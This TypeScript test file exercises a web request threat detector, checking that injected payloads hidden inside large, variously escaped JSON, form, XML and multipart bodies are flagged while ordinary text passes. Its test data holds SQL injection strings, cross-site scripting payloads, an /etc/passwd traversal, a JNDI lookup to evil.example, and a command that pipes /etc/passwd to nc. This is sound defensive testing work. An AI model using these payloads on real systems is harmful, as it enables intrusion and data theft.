// SPDX-License-Identifier: Apache-2.0

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readContext } from '../context.ts'
import { openJudge } from '../open-judge.ts'
import { decodeRequest } from './request.ts'

const { judge } = openJudge({})
const sent = (type: string, body: string) =>
  readContext({
    method: 'POST',
    path: '/',
    query: '',
    headers: [['Content-Type', type]],
    body: Buffer.from(body, 'latin1'),
    address: '192.0.2.1',
  })
const prose =
  'We moved the meeting to four and the order arrived on time, thanks for all the help with the new shelves. '
const filled = (chars: number) => prose.repeat(Math.ceil(chars / prose.length)).slice(0, chars)
const hex = (text: string, sign: string, behind = '') =>
  [...text]
    .map(
      (char) =>
        `${sign}${char
          .charCodeAt(0)
          .toString(16)
          .padStart(sign === '\\u' ? 4 : 2, '0')}${behind}`,
    )
    .join('')

const json = (attack: string) => [
  'application/json',
  `{"x":"${filled(60_000)}","q":"${attack}","y":"${filled(40_000)}"}`,
]
const form = (attack: string) => [
  'application/x-www-form-urlencoded',
  `x=${'a'.repeat(60_000)}&q=${attack}&y=${'b'.repeat(40_000)}`,
]
const xml = (attack: string) => [
  'application/xml',
  `<r><x>${filled(60_000)}</x><q>${attack}</q><y>${filled(40_000)}</y></r>`,
]
const parts = (attack: string) => {
  const part = (headers: string, text: string) =>
    `--xyzxyzxyz\r\nContent-Disposition: form-data; name="a"\r\n${headers}\r\n${text}\r\n`
  const encoded = part('Content-Transfer-Encoding: quoted-printable\r\n', attack)
  return ['multipart/form-data; boundary=xyzxyzxyz', part('', filled(60_000)) + encoded + part('', filled(40_000))]
}

const attacks = {
  'a union': "1' UNION SELECT username, password FROM users-- -",
  'a union between comments': "1'/**/UniOn/*x*/SeLeCt/**/username,password/**/FROM/**/users-- -",
  'a condition': "' OR '1'='1' -- ",
  'a condition without quotes': '1 or 1=1 or id=2 union select password from users',
  'a script': '<script>alert(document.cookie)</script>',
  'a handler': '<img src=x onerror=alert(1)>',
  'a path': '../../../../etc/passwd',
  'a lookup': '$\u007bjndi:ldap://evil.example/a}',
  'a command': '; cat /etc/passwd | nc 192.0.2.1 80',
}
for (const [name, attack] of Object.entries(attacks))
  test(`DET-1 ${name} between the ends of a body is found, however it is escaped`, () => {
    for (const [type, body] of [
      json(JSON.stringify(attack).slice(1, -1)),
      json(hex(attack, '\\u')),
      json(hex(attack, '&#x', ';')),
      form(encodeURIComponent(attack)),
      form(encodeURIComponent(attack).replaceAll('%20', '+')),
      form(hex(attack, '%')),
      form(encodeURIComponent(hex(attack, '%'))),
      form(encodeURIComponent(`{"q":"${hex(attack, '\\u')}"}`)),
      xml(hex(attack, '&#x', ';')),
      parts(hex(attack, '=').toUpperCase()),
    ] as [string, string][])
      assert.equal(judge(sent(type, body), 0n).threat, true, `${type} ${body.slice(60_000, 60_200)}`)
  })

test('DET-1 an attack in the end of a body that is cut in the middle is a parameter, as its parser reads it', () => {
  const attack = "' OR '1'='1' -- "
  for (const [type, body, source] of [
    ['application/x-www-form-urlencoded', `x=${'a+'.repeat(30_000)}&q=${encodeURIComponent(attack)}`, 'ARGS_POST'],
    ['application/json', `{"x":"${filled(60_000)}","q":"${hex(attack, '\\u')}"}`, 'ARGS_POST'],
    ['application/xml', `<r><x>${filled(60_000)}</x><q>${hex(attack, '&#x', ';')}</q></r>`, 'XML'],
    [
      'multipart/form-data; boundary=xyzxyzxyz',
      `--xyzxyzxyz\r\nContent-Disposition: form-data; name="x"\r\n\r\n${filled(60_000)}\r\n--xyzxyzxyz\r\n` +
        `Content-Disposition: form-data; name="q"\r\n\r\n${attack}\r\n--xyzxyzxyz--\r\n`,
      'ARGS_POST',
    ],
  ] as const) {
    const { values } = decodeRequest(sent(type, body))
    assert.ok(
      values.some((value) => value.source === source && value.text.trim() === attack.trim()),
      type,
    )
    assert.equal(judge(sent(type, body), 0n).threat, true, type)
  }
})

test('DET-1 where there are more places that tell of an attack than are looked at, it is told that the rest is unseen', () => {
  const decoys = (count: number) =>
    `a=${'a'.repeat(50_000)}${`&d=onload%3D${'b'.repeat(250)}`.repeat(count)}&z=${'z'.repeat(20_000)}`
  const cutOf = (count: number) => judge(sent('application/x-www-form-urlencoded', decoys(count)), 0n).detectors.cut
  assert.deepEqual([cutOf(8), cutOf(40)], [[], ['signals']])
  const words = `a=${'a'.repeat(50_000)}${'%27%27'.repeat(5_000)}&z=${'z'.repeat(20_000)}`
  assert.deepEqual(judge(sent('application/x-www-form-urlencoded', words), 0n).detectors.cut, ['signals'])
})

test('DET-1 behind decoys an attack is found', () => {
  const decoys = `powershell ${filled(300)}`.repeat(9)
  const body = JSON.stringify({ x: filled(49_500) + decoys, q: "1' UNION SELECT a FROM users-- -", y: filled(40_000) })
  assert.equal(judge(sent('application/json', body), 0n).recommended_action, 'block')
})

test('DET-1 ordinary text between the ends of a body is no threat', () => {
  const order = {
    id: 7,
    name: "Siobhan O'Brien",
    note: `${filled(200)} Don't ring & "leave" it; 50% off (1 or 2)`,
    tags: ['a', 'b'],
  }
  const list = JSON.stringify(Array.from({ length: 400 }, (_, at) => ({ ...order, id: at })))
  const fields = new URLSearchParams(Array.from({ length: 400 }, (_, at) => [`n${at}`, order.note])).toString()
  for (const [type, body] of [
    ['application/json', list],
    ['application/x-www-form-urlencoded', fields],
    ['application/xml', `<r>${`<a b="1">${filled(100)}</a>`.repeat(1_000)}</r>`],
  ] as const) {
    const { threat, detectors, score } = judge(sent(type, body), 0n)
    assert.deepEqual([threat, detectors.cut], [false, []], `${type} ${score}`)
  }
})
